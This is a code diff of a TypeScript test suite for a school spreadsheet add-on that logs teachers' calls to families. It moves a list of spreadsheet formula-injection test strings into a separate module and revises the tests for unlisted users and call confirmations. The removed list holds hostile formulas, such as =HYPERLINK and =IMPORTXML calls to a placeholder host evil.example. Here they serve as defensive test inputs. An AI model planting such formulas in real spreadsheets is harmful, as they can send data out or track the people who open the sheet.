@@ -7,6 +7,7 @@
 import type { Workbook } from '../../emulator';
 import type { CallInput, FamilyKnowledge, LogCallResult, SidebarContext } from '../../src/common/rpc';
 import { DEFAULT_PROMPTS, FAMILY_KNOWLEDGE_COLUMNS } from '../../src/common/schema';
+import { INJECTIONS } from './injections';
 import {
   ANA,
   ANA_GOAL,
@@ -20,20 +21,6 @@ import {
   type School,
   school,
 } from './school-fixture';
-
-/** Texts a spreadsheet would read as a formula, a number or a command if written as typed. */
-const INJECTIONS = [
-  '=1+1',
-  '+1 555 0100',
-  '-2+3',
-  '@SUM(1,2)',
-  '\t=1+1',
-  '\r=1+1',
-  '＝1+1',
-  '=HYPERLINK("http://evil.example/steal","Click me")',
-  '=IMPORTXML("http://evil.example/x","//a")',
-  '=IMAGE("http://evil.example/pixel.png")',
-];
 
 /** Every field a teacher types free text into. */
 const FREE_TEXT = ['personReached', 'strengths', 'hopes', 'learned', 'followUp'] as const;
@@ -206,15 +193,23 @@ describe('refused or ignored, with a sentence and no row', () => {
     expect(callRows(workbook)).toHaveLength(rowsBefore + 1);
   });
 
-  test('a teacher who is not on Teachers is told to ask the principal, and nothing is logged', () => {
-    const { emu } = shared;
-    const stranger = 'cleo.park@maple.example';
-    for (const fn of ['getSidebarContext', 'logCall']) {
-      const run = emu.run(fn, fn === 'logCall' ? [callInput()] : [], { user: stranger });
-      expect(run.error?.message).toContain(
-        `You are signed in as ${stranger}, which is not on the Teachers tab`,
-      );
-      expect(run.error?.message).toMatch(/Ask your principal to add a row for you on the Teachers tab/);
+  test('someone not on Teachers gets a sentence that fits who they are, and nothing is logged', () => {
+    const { workbook, emu } = shared;
+    // A homeroom teacher the Families tab names but Teachers lacks, and an editor such as the principal.
+    const missing = 'cleo.park@maple.example';
+    workbook.appendRows('Families', [["'s77", 'Ivo Park', "'2", missing]]);
+    const sentence = (user: string) =>
+      emu.call<{ notOnTeachers: true; message: string }>('getSidebarContext', [], { user });
+    expect(sentence(missing)).toMatchObject({ notOnTeachers: true });
+    expect(sentence(missing).message).toBe(
+      `You are signed in as ${missing}, which is not on the Teachers tab, so calls you log cannot count toward a goal. The Families tab lists you as homeroom teacher of 1 family: add a row for yourself on the Teachers tab (your name, this email and your goal), then open Log a call again.`,
+    );
+    expect(sentence(PRINCIPAL).message).toMatch(
+      /not on the Teachers tab.*If you call families, add a row for yourself on the Teachers tab.*If you lead or coach the school, the Summary tab shows how the calls are going\./,
+    );
+    for (const user of [missing, PRINCIPAL]) {
+      const run = emu.run('logCall', [callInput()], { user });
+      expect(run.error?.message).toBe(sentence(user).message);
     }
     noNewRow();
   });
@@ -257,7 +252,9 @@ describe("the sidebar's context and the family's record", () => {
     );
     const logged = log(emu, callInput({ studentId: FAMILY.leo.id }));
     expect(logged.result?.progress).toMatchObject({ done: 1, calls: 2, ownFamiliesNotReached: 1 });
-    expect(logged.result?.message).toBe(`Call logged: 1 of ${ANA_GOAL} conversations.`);
+    expect(logged.result?.message).toBe(
+      `Call logged: reached Rosa Diaz, ${FAMILY.leo.name}'s mother. 1 of ${ANA_GOAL} conversations.`,
+    );
     const after = ana();
     expect(after.progress).toEqual(logged.result?.progress);
     expect(after.families.find((f) => f.studentId === FAMILY.leo.id)).toMatchObject({
